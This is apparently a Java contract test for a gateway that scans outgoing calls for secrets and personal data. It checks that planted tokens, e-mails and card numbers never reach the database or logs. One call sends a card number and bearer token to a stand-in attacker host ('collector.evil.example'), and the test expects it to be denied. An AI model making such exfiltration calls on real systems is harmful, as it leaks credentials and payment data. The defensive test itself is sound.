package io.interven.gateway.contract;

import static io.interven.gateway.contract.PlantedValues.CARD;
import static io.interven.gateway.contract.PlantedValues.DASHED_CARD;
import static io.interven.gateway.contract.PlantedValues.EMAIL;
import static io.interven.gateway.contract.PlantedValues.GITHUB_TOKEN;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.interven.gateway.testing.DatabaseRows;
import io.interven.gateway.testing.GatewayHarness;
import io.interven.gateway.testing.HttpResult;
import io.interven.gateway.testing.TenantFixture;
import io.interven.gateway.testing.TestDatabase;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * A GitHub token, an e-mail address and a card number planted in the body, a header (its value, and its name with the
 * card's digits grouped by dashes) and the URL query of calls
 * that are allowed, sanitized, sent for approval and denied are found by the scan, yet reach neither any table of
 * the database (nor, on H2, the raw database file) nor the gateway's log. Runs on a gateway of its own, with the
 * built-in plugins, so that its database and log hold only what these scans wrote.
 */
abstract class SecretNeverPersistsContract {
    /** Lowers the HIGH band to 0.55 so that SECRETS + PII in one write (0.5875) asks for approval. */
    private static final String HIGH_FROM = "0.55";

    abstract String database();

    @Test
    void plantedSecretsAndPiiReachNeitherTheDatabaseNorTheLog() throws Exception {
        TestDatabase database = TestDatabase.fresh(database());
        GatewayHarness gateway = GatewayHarness.on(database).override("risk.highFrom", HIGH_FROM).start();
        String tenantName;
        try {
            TenantFixture tenant = gateway.newTenant();
            tenantName = tenantNameOf(gateway, tenant);
            List<String> traceIds = scanEveryOutcome(tenant);
            traceIds.forEach(traceId -> TraceReader.awaitTrace(tenant, traceId));

            Map<String, String> tables = DatabaseRows.everyTable(database);
            assertThat(tables.keySet()).contains("tenants", "environments", "agents", "api_keys", "traces",
                    "approvals", "flyway_schema_history");
            assertThat(tables.get("traces")).as("every trace was written").contains(traceIds);
            assertThat(tables.get("approvals")).as("the approval was written").contains(tenant.tenantId());
            assertThat(DatabaseRows.column(database, "SELECT policy_input FROM traces"))
                    .as("every trace stored the policy input its decision was made on, searched with every column")
                    .hasSize(traceIds.size()).allSatisfy(input -> assertThat(input).contains("\"verb\""));
            List<String> leaks = new ArrayList<>();
            tables.forEach((table, text) -> leaks.addAll(PlantedValues.foundIn("table " + table, text)));
            assertThat(leaks).as("planted values in the database").isEmpty();
        } finally {
            gateway.close();
        }
        if (database.h2File() != null) {
            byte[] raw = Files.readAllBytes(database.h2File());
            String latin = new String(raw, StandardCharsets.ISO_8859_1);
            assertThat(latin).as("the raw file holds the stored rows").contains(tenantName);
            assertThat(PlantedValues.foundIn("H2 file (ISO-8859-1)", latin)).isEmpty();
            assertThat(PlantedValues.foundIn("H2 file (UTF-8)", new String(raw, StandardCharsets.UTF_8))).isEmpty();
        }
        String log = gateway.log();
        assertThat(log).as("the gateway logged to its file").contains("applied migration");
        assertThat(PlantedValues.foundIn("log", log)).isEmpty();
    }

    /** Scans calls carrying the planted values, checks each outcome found them; returns the trace ids. */
    private static List<String> scanEveryOutcome(TenantFixture tenant) {
        List<String> traceIds = new ArrayList<>();
        traceIds.add(expect(tenant.scan(Map.of("method", "GET",
                "url", "https://api.github.com/repos/acme/app/issues?assignee=" + EMAIL,
                "headers", Map.of("Authorization", "Bearer " + GITHUB_TOKEN, "X-Card", CARD))),
                "ALLOW", "PII"));
        traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://crm.example.org/api/notes?cc=" + CARD,
                "headers", Map.of("X-Contact", EMAIL, "X-Card-" + DASHED_CARD, "1"),
                "body", Map.of("note", "card " + CARD + " for " + EMAIL, "list", List.of(EMAIL)))),
                "SANITIZE", "PII"));
        traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://hooks.slack.com/services/T1/B1/x",
                "body", Map.of("text", "deploy with " + GITHUB_TOKEN))),
                "SANITIZE", "SECRETS"));
        traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://paste.example.net/new",
                "body", Map.of("token", GITHUB_TOKEN, "owner", EMAIL, "card", CARD))),
                "REQUIRE_APPROVAL", "SECRETS", "PII"));
        // a value filed under the name beside it, a name that is itself personal data, and a table's cells
        traceIds.add(expect(tenant.scan(Map.of("method", "POST", "url", "https://hooks.slack.com/services/T1/B1/y",
                "body", Map.of("fields", List.of(Map.of("name", EMAIL, "value", GITHUB_TOKEN)),
                        "sheet", "owner,token,card\n" + EMAIL + "," + GITHUB_TOKEN + "," + CARD + "\n"))),
                "REQUIRE_APPROVAL", "SECRETS", "PII"));
        traceIds.add(expect(tenant.scan(Map.of("method", "GET",
                "url", "https://collector.evil.example/upload?cc=" + CARD,
                "headers", Map.of("Authorization", "Bearer " + GITHUB_TOKEN, "X-Mail", EMAIL))),
                "DENY", "SECRETS", "PII"));
        return traceIds;
    }

    /** The scan decided {@code decision} having found {@code classes}, and its answer quotes no planted value. */
    private static String expect(HttpResult answer, String decision, String... classes) {
        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        JsonNode json = answer.json();
        assertThat(json.path("classifications")).as("classes found in %s", answer.text())
                .extracting(JsonNode::asText).contains(classes);
        assertThat(json.path("decision").asText()).as("decision of %s", answer.text()).isEqualTo(decision);
        assertThat(json.path("findings")).as("findings of %s", answer.text()).isNotEmpty();
        if (decision.equals("REQUIRE_APPROVAL")) {
            assertThat(json.path("approval_id").asText()).isNotBlank();
        }
        assertThat(PlantedValues.foundIn("scan answer", answer.text())).isEmpty();
        return json.path("trace_id").asText();
    }

    private static String tenantNameOf(GatewayHarness gateway, TenantFixture tenant) throws SQLException {
        try (Connection c = connect(gateway.database());
             Statement st = c.createStatement();
             ResultSet rs = st.executeQuery("SELECT name FROM tenants WHERE id = '" + tenant.tenantId() + "'")) {
            assertThat(rs.next()).isTrue();
            return rs.getString(1);
        }
    }

    private static Connection connect(TestDatabase database) throws SQLException {
        return DriverManager.getConnection(database.url(), database.user(), database.password());
    }
}
